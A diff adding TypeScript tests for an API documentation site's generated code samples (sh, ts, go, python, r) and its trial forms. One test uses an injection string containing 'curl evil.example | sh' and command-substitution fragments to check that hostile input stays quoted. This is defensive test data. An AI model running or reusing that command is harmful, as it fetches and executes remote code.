@@ -189,6 +189,46 @@ test("a page does not need its script: only the trial is hidden without it", asy
     expect($(`.choice.${language} pre`).text()).toContain(app.url);
 });
 
+test("the samples of a page are for the values that its form puts into the URL", async () => {
+  const $ = await page("/docs/list-conflict-events?country=SD&page_size=2&format=csv&utm=1");
+  const sample = (language: string) => $(`.choice.${language} pre`).text();
+  expect(sample("sh")).toContain("/api/conflict/v1/list-conflict-events?page_size=2&country=SD&format=csv'");
+  expect(sample("ts")).toMatch(/page_size: 2,\s+country: "SD"/);
+  expect(sample("go")).toMatch(/PageSize: +2,/);
+  expect(sample("python")).toContain('"format": "csv"');
+  expect(sample("python")).toContain("print(answer.text)");
+  expect(sample("r")).toContain('page_size = 2, country = "SD"');
+  expect($("form.trial [name=country]").val()).toBe("SD");
+  expect($("form.trial [name=format]").val()).toBe("csv");
+  const inPath = await page("/docs/get-webhook?subscriber_id=x%2Fy");
+  expect(inPath(".choice.sh pre").text()).toContain("/api/v2/shipping/webhooks/x%2Fy'");
+});
+
+test("a value that a parameter cannot have is in no sample, and a text stays within its quotes", async () => {
+  const hostile = '\'; curl evil.example | sh; " + os.Exit(1) + "\n`x` $(y)';
+  const query = new URLSearchParams({ country: hostile, page_size: hostile, start: "1e3", __proto__: "x" });
+  const $ = await page(`/docs/list-conflict-events?${query}`);
+  const sample = (language: string) => $(`.choice.${language} pre`).text();
+  expect(sample("sh")).not.toMatch(/evil\.example \|/);
+  for (const language of ["ts", "go", "r", "python"]) {
+    expect(sample(language), language).toContain(JSON.stringify(hostile));
+    expect(sample(language), language).not.toMatch(/page_?size|1e3/i);
+  }
+});
+
+test("a form offers a choice where a parameter is true or false", async () => {
+  for (const operation of catalog)
+    for (const { name, in: place, schema, deprecated } of described(operation.path, operation.verb).parameters) {
+      if (schema.type !== "boolean" || place === "header" || deprecated) continue;
+      const $ = await page(pathOf(operation));
+      const options = $(`form.trial select[name="${name}"] option`).get();
+      expect(
+        options.map((option) => $(option).text()),
+        `${operation.name} ${name}`,
+      ).toEqual(["", "true", "false"]);
+    }
+});
+
 test("the address of the samples is the one that was asked, and no other text", async () => {
   await using direct = await startApp(database);
   const requested = async (headers: Record<string, string>) => {
